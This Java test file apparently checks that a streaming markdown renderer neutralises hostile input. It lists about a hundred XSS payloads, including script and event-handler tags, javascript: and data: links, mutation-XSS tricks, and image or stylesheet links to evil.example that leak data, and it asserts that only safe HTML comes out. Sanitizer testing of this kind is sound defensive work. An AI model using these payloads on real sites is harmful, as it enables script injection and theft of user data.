package dev.espressivo.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

/** Hostile texts, and the checks that their HTML is harmless. */
@DisplayName("Hostile markdown")
class MarkdownAttackTest {

  private static final Set<String> ELEMENTS =
      Set.of(
          "#root",
          "html",
          "head",
          "body",
          "p",
          "br",
          "hr",
          "em",
          "strong",
          "del",
          "code",
          "pre",
          "div",
          "span",
          "sup",
          "ul",
          "ol",
          "li",
          "blockquote",
          "section",
          "button",
          "a",
          "table",
          "thead",
          "tbody",
          "tr",
          "th",
          "td");

  /** Markup, addresses and markdown that have passed filters elsewhere, and variants of them. */
  static final List<String> ATTACKS =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<img src=x onerror=alert(1)>",
          "<img src=\"x\" onerror='alert(1)' />",
          "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
          "<svg onload=alert(1)>",
          "<svg><script>alert&#40;1)</script></svg>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<math href=\"javascript:alert(1)\">x</math>",
          "<body onload=alert(1)>",
          "<iframe src=\"javascript:alert(1)\"></iframe>",
          "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
          "<object data=\"data:text/html,<script>alert(1)</script>\">",
          "<embed src=javascript:alert(1)>",
          "<form action=javascript:alert(1)><button>x</button></form>",
          "<input autofocus onfocus=alert(1)>",
          "<details open ontoggle=alert(1)>",
          "<video><source onerror=alert(1)></video>",
          "<style>@import 'https://evil.example/x.css';</style>",
          "<div style=\"background:url(https://evil.example/x)\">",
          "<p style=\"position:fixed;inset:0\">over all</p>",
          "<link rel=stylesheet href=https://evil.example/x.css>",
          "<base href=https://evil.example/>",
          "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
          "<template><script>alert(1)</script></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<textarea><img src=x onerror=alert(1)></textarea>",
          "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
          "<!--><img src=x onerror=alert(1)>-->",
          "<![CDATA[><script>alert(1)</script>]]>",
          "<?php echo '<script>alert(1)</script>' ?>",
          "<!DOCTYPE html><script>alert(1)</script>",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<a href=\"https://evil.example\" onclick=alert(1)>x</a>",
          "<form id=location><input name=href></form>",
          "<a id=body name=body></a><img name=getElementById>",
          "<es-markdown onclick=alert(1)></es-markdown>",
          "[a](javascript:alert(1))",
          "[a](JaVaScRiPt:alert(1))",
          "[a](javascript&colon;alert(1))",
          "[a](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
          "[a](&#x6A;avascript:alert(1))",
          "[a](java&#9;script:alert(1))",
          "[a](java&#10;script:alert(1))",
          "[a](<java\tscript:alert(1)>)",
          "[a](< javascript:alert(1)>)",
          "[a](\u0001javascript:alert(1))",
          "[a](\u00a0javascript:alert(1))",
          "[a](java\u200bscript:alert(1))",
          "[a](javascript\\:alert(1))",
          "[a](%6Aavascript:alert(1))",
          "[a](vbscript:msgbox(1))",
          "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
          "[a](data:image/svg+xml,<svg/onload=alert(1)>)",
          "[a](file:///etc/passwd)",
          "[a](blob:https://evil.example/1)",
          "[a](//evil.example)",
          "[a](/logout)",
          "[a](#fragment)",
          "[a](?query)",
          "[a](\\\\evil.example)",
          "[a](http:evil)",
          "[a](https:///x)",
          "[a](https://x\"onmouseover=alert(1)\")",
          "[a](https://x.example 'title\" onmouseover=alert(1)')",
          "[a](https://x.example \"<img src=x onerror=alert(1)>\")",
          "[a]: javascript:alert(1)\n\n[a]",
          "[a]: <data:text/html,x>\n\n[a] ![a]",
          "<javascript:alert(1)>",
          "<data:text/html,x>",
          "<https://x.example/\"onclick=alert(1)>",
          "[[a](https://x.example)](javascript:alert(1))",
          "[![a](javascript:alert(1))](javascript:alert(1))",
          "[![a](https://evil.example/x.png)](https://x.example)",
          "![a](javascript:alert(1))",
          "![a](https://evil.example/?q=secret)",
          "![a](//evil.example/?q=secret)",
          "![a](HTTPS://evil.example/x)",
          "![a](data:image/svg+xml;base64,PHN2Zz4=)",
          "![a](https://user:pw@evil.example/x)",
          "![a](/logout)",
          "![a](x\" onerror=\"alert(1))",
          "![\" onerror=\"alert(1)](https://evil.example/x.png)",
          "![a](https://evil.example/x.png \"\\\" onerror=alert(1)\")",
          "![[a](javascript:alert(1))](https://evil.example/x)",
          "```\"><script>alert(1)</script>\nx\n```",
          "```js\" onclick=\"alert(1)\n</code><script>alert(1)</script>\n```",
          "```html\n"
              + "<img src=x onerror=alert(1)>\n"
              + "</pre></code></div><script>alert(1)</script>\n"
              + "```",
          "~~~</code>\n<script>alert(1)</script>\n~~~",
          "`<img src=x onerror=alert(1)>`",
          "    </code></pre><script>alert(1)</script>",
          "| <script>alert(1)</script> |\n"
              + "|---|\n"
              + "| <img src=x onerror=alert(1)> |\n"
              + "| [a](javascript:x) |",
          "> [!NOTE\" onclick=\"alert(1)]\n> x",
          "[^\"><script>]\n\n[^\"><script>]: <img src=x onerror=alert(1)>",
          "1000000000000. x\n-1. y",
          "$</code><script>alert(1)</script>$ $$\\href{javascript:alert(1)}{x}$$",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;img src=x onerror=alert(1)&#62;",
          "\u202e<script>\u202c",
          "\\<script>alert(1)\\</script>",
          "# <img src=x onerror=alert(1)>",
          "- [x] <img src=x onerror=alert(1)>",
          "www.evil.example/\"onclick=alert(1)",
          "javascript:alert(1)",
          "mailto:a@b.example?subject=x%0d%0abcc:c@d.example");

  @Test
  void noAttackEscapes() {
    for (String attack : all()) {
      check(attack, MarkdownStream.of(MarkdownOptions.DEFAULT, attack));
    }
  }

  @Test
  void noAttackEscapesWhileItIsBeingTyped() {
    for (String attack : ATTACKS) {
      MarkdownStream stream = new MarkdownStream(MarkdownOptions.DEFAULT);
      for (int i = 0; i < attack.length(); i++) {
        check(attack, stream.append(attack.substring(i, i + 1)));
      }
    }
  }

  @Test
  void whatAHookForFormulasWritesIsCleaned() {
    MarkdownOptions options =
        MarkdownOptions.DEFAULT.withMath(
            (tex, display) ->
                "<math display='block'><mi>x</mi><script>alert(1)</script></math>"
                    + "<a href='javascript:x'>y</a><img src=x onerror=alert(1)><p style='x'>z</p>");

    String html = new StreamReader().read(MarkdownStream.of(options, "$x$")).html();

    assertThat(html).contains("<math display=\"block\"><mi>x</mi>");
    assertThat(html).doesNotContain("<script", "javascript", "onerror", "src", "style");
  }

  /** Each attack alone, and within each kind of container block and inline element. */
  private static List<String> all() {
    List<String> texts = new ArrayList<>();
    for (String attack : ATTACKS) {
      String indented = attack.replace("\n", "\n  ");
      texts.add(attack);
      texts.add("- " + indented + "\n- next");
      texts.add("> " + attack.replace("\n", "\n> "));
      texts.add("text **" + attack + "** text");
      texts.add("[" + attack + "](https://x.example)");
      texts.add("![" + attack + "](https://x.example)");
      texts.add("| h |\n|---|\n| " + attack.replace("\n", " ").replace("|", "\\|") + " |");
      texts.add("<div>\n" + attack + "\n</div>");
      texts.add("[^1]\n\n[^1]: " + indented);
    }
    texts.add(String.join("\n\n", ATTACKS));
    return texts;
  }

  private static void check(String attack, MarkdownStream stream) {
    String html = new StreamReader().read(stream).html();
    for (Element element : Jsoup.parse(html).getAllElements()) {
      assertThat(ELEMENTS).as(attack).contains(element.normalName());
      for (Attribute attribute : element.attributes()) {
        checkAttribute(attack, element, attribute.getKey(), attribute.getValue());
      }
    }
  }

  private static void checkAttribute(String attack, Element element, String name, String value) {
    assertThat(name)
        .as(attack)
        .doesNotStartWith("on")
        .isNotIn("style", "id", "name", "class", "src");
    if (name.equals("href")) {
      assertThat(value.toLowerCase(Locale.ROOT)).as(attack).matches("(https?://[^/].*|mailto:.+)");
      assertThat(element.attr("rel")).isEqualTo("nofollow noopener noreferrer");
      assertThat(element.attr("target")).isEqualTo("_blank");
    }
    if (name.equals("data-src")) {
      assertThat(value.toLowerCase(Locale.ROOT)).as(attack).matches("https?://[^/].*");
      assertThat(element.attr("data-host")).as(attack).isNotEmpty();
      assertThat(element.parents().is("a")).as(attack).isFalse();
    }
  }
}
